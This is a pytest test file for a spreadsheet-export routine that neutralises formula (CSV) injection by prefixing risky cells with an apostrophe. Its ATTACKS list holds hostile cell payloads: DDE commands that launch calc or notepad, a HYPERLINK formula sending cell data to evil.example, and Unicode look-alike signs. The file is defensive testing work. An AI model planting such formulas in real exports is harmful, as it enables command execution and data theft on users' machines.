"""Formula attacks, and that nothing is lost by defusing them."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderator.exporting.formulas import defused, is_formula, restored

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
    "−1+1",
    "⁺1",
    "₌1",
    "\t",
    "\r",
    "-",
    "=",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_begins_with_an_apostrophe(attack: str) -> None:
    """A cell that a spreadsheet might calculate is made a text by one character before it."""
    assert defused(attack) == f"'{attack}"


@pytest.mark.parametrize("text", ["", "张三", "a=1", "3-4", "a@b.example", "总部/销售部", "x\n=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    """What begins otherwise is no formula, whatever follows."""
    assert defused(text) == text


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    """One apostrophe less at the start, where there is one, gives what was exported."""
    assert restored(defused(text)) == text


@given(st.characters(exclude_categories=["Cs"]))
def test_every_form_of_a_sign_is_one(character: str) -> None:
    """Whatever compatibility makes a sign of, a spreadsheet may take for it."""
    if unicodedata.normalize("NFKC", character)[:1] in tuple("=+-@"):
        assert is_formula(f"{character}1")
